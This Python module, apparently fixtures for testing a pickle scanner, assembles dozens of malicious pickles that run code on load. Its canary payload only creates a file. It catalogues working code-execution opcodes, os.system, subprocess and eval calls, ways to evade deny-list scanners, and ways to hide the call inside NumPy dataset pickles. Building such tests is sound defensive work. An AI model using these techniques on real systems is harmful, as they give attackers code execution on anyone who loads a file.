"""Attack pickles by technique: what `pickle.load` runs without asking. Here each would only write a file, the canary.

The techniques are those of the literature on pickle scanners and of the machine itself (`pickletools` documents every
instruction): each way to name a function, each way to call it, and each way to look harmless.
"""

import marshal
import os
import pickle
import struct

import numpy as np

EXTENSION_CODE = 0xF0
#: Run before `pickle.loads`: some attacks use what an application has set up.
PREPARE = f"import copyreg; copyreg.add_extension('builtins', 'eval', {EXTENSION_CODE})"


def code(canary):
    return f"open({str(canary)!r}, 'w').close()"


def command(canary):
    return f'echo x > "{canary}"'


# --- the pieces of a pickle -------------------------------------------------------------------------------------------


def text(value):
    """Write a string as protocol 0 does."""
    return b"V" + value.encode("raw-unicode-escape") + b"\n"


def short(value):
    """Write a string as protocol 4 does."""
    return b"\x8c" + bytes([len(value.encode())]) + value.encode()


def named(module, name):
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def stacked(module, name):
    return short(module) + short(name) + b"\x93"


def call(function, *arguments):
    return function + b"(" + b"".join(arguments) + b"tR"


EVAL = named("builtins", "eval")


class Call:
    """Pickles as a call of any function."""

    def __init__(self, function, *arguments):
        self.reduced = function, arguments

    def __reduce__(self):
        return self.reduced


def arrays():
    images, labels = np.zeros((2, 28, 28), np.uint8), np.zeros(2, np.uint8)
    return [(images, labels), (images.copy(), labels.copy())]


RECONSTRUCT = (
    call(named("numpy._core.multiarray", "_reconstruct"), named("numpy", "ndarray"), b"I0\n\x85", text("b"))
)  # fmt: skip
UINT8 = call(named("numpy", "dtype"), text("u1"), b"I00\n", b"I01\n")


def labels(shape=b"(I2\nt", dtype=UINT8, is_fortran=b"I00\n", data=b"C\x02\x01\x02"):
    """Write two labels in the form of protocol 3, with anything in place of a part."""
    return RECONSTRUCT + b"(I1\n" + shape + dtype + is_fortran + data + b"tb"


def with_labels(attack):
    """Write a dataset with anything in place of its training labels."""
    images, _, test_images, test_labels = (pickle.dumps(array, 3)[2:-1] for pair in arrays() for array in pair)
    return b"\x80\x03(" + images + attack + b"t(" + test_images + test_labels + b"t\x86."


# --- the techniques ---------------------------------------------------------------------------------------------------

#: Each takes the canary's path and gives a whole pickle; `pickle.loads` runs every one of them.
EXECUTED = {
    # how a function is called
    "REDUCE": lambda canary: call(EVAL, text(code(canary))) + b".",
    "INST": lambda canary: b"(" + text(code(canary)) + b"ibuiltins\neval\n.",
    "OBJ": lambda canary: b"(" + EVAL + text(code(canary)) + b"o.",
    "NEWOBJ of an iterator, NEWOBJ of what uses it up": lambda canary: (
        b"\x80\x02" + named("builtins", "frozenset") + named("builtins", "map") + EVAL
        + b"(" + text(code(canary)) + b"t\x86\x81\x85\x81."
    ),
    "NEWOBJ_EX of an iterator, NEWOBJ_EX of what uses it up": lambda canary: (
        b"\x80\x04" + named("builtins", "frozenset") + named("builtins", "map") + EVAL
        + b"(" + text(code(canary)) + b"t\x86}\x92\x85}\x92."
    ),
    "REDUCE of an iterator, REDUCE of what uses it up": lambda canary: (
        call(named("collections", "deque"), call(named("builtins", "map"), EVAL, b"(" + text(code(canary)) + b"t"))
        + b"."
    ),
    "BUILD with a __setstate__ that takes a function": lambda canary: (
        call(named("functools", "partial"), named("builtins", "print"))
        + b"(" + EVAL + b"(" + text(code(canary)) + b"t}Ntb)R."
    ),
    "BUILD that plants a __setstate__ in a class": lambda canary: (
        b"\x80\x02" + named("argparse", "Namespace") + b"N}" + text("__setstate__") + named("os", "system")
        + b"s\x86b)\x81" + text(command(canary)) + b"b."
    ),
    "BUILD that fills __dict__, read back by a call": lambda canary: (
        b"\x80\x02" + call(named("operator", "attrgetter"), text("run"))
        + named("argparse", "Namespace") + b")\x81}" + text("run") + EVAL + b"sb\x85R(" + text(code(canary)) + b"tR."
    ),
    "EXT1": lambda canary: b"\x80\x02\x82" + bytes([EXTENSION_CODE]) + b"(" + text(code(canary)) + b"tR.",
    "EXT2": lambda canary: b"\x80\x02\x83" + struct.pack("<H", EXTENSION_CODE) + b"(" + text(code(canary)) + b"tR.",
    "EXT4": lambda canary: b"\x80\x02\x84" + struct.pack("<i", EXTENSION_CODE) + b"(" + text(code(canary)) + b"tR.",
    # how a function is named
    "GLOBAL of os.system": lambda canary: call(named("os", "system"), text(command(canary))) + b".",
    "GLOBAL with the names of Python 2": lambda canary: (
        b"\x80\x02" + call(named("__builtin__", "eval"), text(code(canary))) + b"."
    ),
    "STACK_GLOBAL": lambda canary: b"\x80\x04" + call(stacked("builtins", "eval"), text(code(canary))) + b".",
    "STACK_GLOBAL from memoised strings": lambda canary: (
        b"\x80\x04" + short("builtins") + b"\x94" + short("exec") + b"\x94" + b"00h\x00h\x01\x93("
        + text(code(canary)) + b"tR."
    ),
    "STACK_GLOBAL from a memo that was overwritten": lambda canary: (
        b"\x80\x04" + short("numpy") + b"q\x00" + short("ndarray") + b"q\x01" + short("builtins") + b"q\x00"
        + short("eval") + b"q\x01" + b"h\x00h\x01\x93(" + text(code(canary)) + b"tR."
    ),
    "STACK_GLOBAL of a name written with escapes": lambda canary: (
        b"\x80\x04V\\u0062uiltins\nV\\u0065val\n\x93(" + text(code(canary)) + b"tR."
    ),
    "STACK_GLOBAL of a name as Python 2 wrote it": lambda canary: (
        b"\x80\x04S'\\x62uiltins'\nS'\\x65val'\n\x93(" + text(code(canary)) + b"tR."
    ),
    "STACK_GLOBAL of a name put together by a call": lambda canary: (
        b"\x80\x04" + short("builtins") + call(named("operator", "concat"), text("ev"), text("al")) + b"\x93("
        + text(code(canary)) + b"tR."
    ),
    "STACK_GLOBAL of an attribute behind a dot": lambda canary: (
        b"\x80\x04" + call(stacked("builtins", "eval.__call__"), text(code(canary))) + b"."
    ),
    "getattr on an imported module": lambda canary: (
        call(
            call(
                named("builtins", "getattr"),
                call(named("builtins", "__import__"), text("os")),
                text("system"),
            ),
            text(command(canary)),
        )
        + b"."
    ),
    "operator.attrgetter": lambda canary: (
        call(
            call(named("operator", "attrgetter"), text("system"))
            + b"(" + call(named("importlib", "import_module"), text("os")) + b"tR",
            text(command(canary)),
        )
        + b"."
    ),
    "operator.methodcaller": lambda canary: (
        call(
            call(named("operator", "methodcaller"), text("system"), text(command(canary))),
            call(named("importlib", "import_module"), text("os")),
        )
        + b"."
    ),
    # functions that lists of forbidden names forget
    "posix or nt": lambda canary: (
        call(named(os.system.__module__, "system"), text(command(canary))) + b"."
    ),
    "subprocess": lambda canary: (
        call(named("subprocess", "getoutput"), text(command(canary))) + b"."
    ),
    "timeit": lambda canary: call(named("timeit", "timeit"), text("0"), text(code(canary))) + b".",
    "cProfile": lambda canary: call(named("cProfile", "run"), text(code(canary)), text(str(canary) + ".2")) + b".",
    "code": lambda canary: (
        call(
            call(
                named("builtins", "getattr"),
                call(named("code", "InteractiveInterpreter")),
                text("runsource"),
            ),
            text(code(canary)),
        )
        + b"."
    ),
    "a pickle in the pickle": lambda canary: (
        pickle.dumps(Call(pickle.loads, call(EVAL, text(code(canary))) + b"."), 4)
    ),
    "marshalled code": lambda canary: (
        pickle.dumps(
            Call(exec, Call(marshal.loads, marshal.dumps(compile(code(canary), "", "exec")))),
            4,
        )
    ),
    "a function of NumPy's": lambda canary: (
        call(named("numpy.testing._private.utils", "runstring"), text(code(canary)), b"}") + b"."
    ),
    "a method of NumPy's that writes": lambda canary: (
        call(
            call(named("builtins", "getattr"), pickle.dumps(np.arange(3), 2)[2:-1], text("tofile")), text(str(canary))
        )
        + b"."
    ),
    "pathlib": lambda canary: pickle.dumps(Call(type(canary).touch, canary), 4),
    # where it hides
    "behind good arrays": lambda canary: pickle.dumps([*arrays(), Call(exec, code(canary))], 4),
    "in place of an array": lambda canary: with_labels(call(EVAL, text(code(canary)))),
    "in place of a shape": lambda canary: with_labels(labels(shape=call(EVAL, text(code(canary))))),
    "in place of a length": lambda canary: with_labels(labels(shape=b"(" + call(EVAL, text(code(canary))) + b"t")),
    "in place of a dtype": lambda canary: with_labels(labels(dtype=call(EVAL, text(code(canary))))),
    "in place of the memory order": lambda canary: with_labels(labels(is_fortran=call(EVAL, text(code(canary))))),
    "in place of the bytes": lambda canary: with_labels(labels(data=call(EVAL, text(code(canary))))),
    "as the argument of a dtype": lambda canary: with_labels(
        labels(dtype=call(named("numpy", "dtype"), call(EVAL, text(code(canary))), b"I00\n", b"I01\n"))
    ),
    "inside a NumPy scalar": lambda canary: (
        call(
            named("numpy._core.multiarray", "scalar"),
            call(named("numpy", "dtype"), text("O8"), b"I00\n", b"I01\n"),
            call(EVAL, text(code(canary))),
        )
        + b"."
    ),
    "inside an object array": lambda canary: pickle.dumps(
        [arrays()[0], (np.array([Call(eval, code(canary))], dtype=object), 1)], 4
    ),
    "as the text of a codec": lambda canary: (
        call(named("_codecs", "encode"), call(named("builtins", "str"), call(EVAL, text(code(canary)))), text("latin1"))
        + b"."
    ),
    "as the key of a dictionary": lambda canary: b"}" + call(EVAL, text(code(canary))) + b"Ns.",
    "thrown away at once": lambda canary: call(EVAL, text(code(canary))) + b"0" + pickle.dumps(arrays(), 2)[2:],
    "thrown away with its mark": lambda canary: (
        b"(" + call(EVAL, text(code(canary))) + b"1" + pickle.dumps(arrays(), 2)[2:]
    ),
    "before the file breaks": lambda canary: call(EVAL, text(code(canary))) + b"\xff\xff",
    "before the file is cut off": lambda canary: call(EVAL, text(code(canary))),
    "behind a change of protocol": lambda canary: b"\x80\x00\x80\x05\x80\x01" + call(EVAL, text(code(canary))) + b".",
}  # fmt: skip
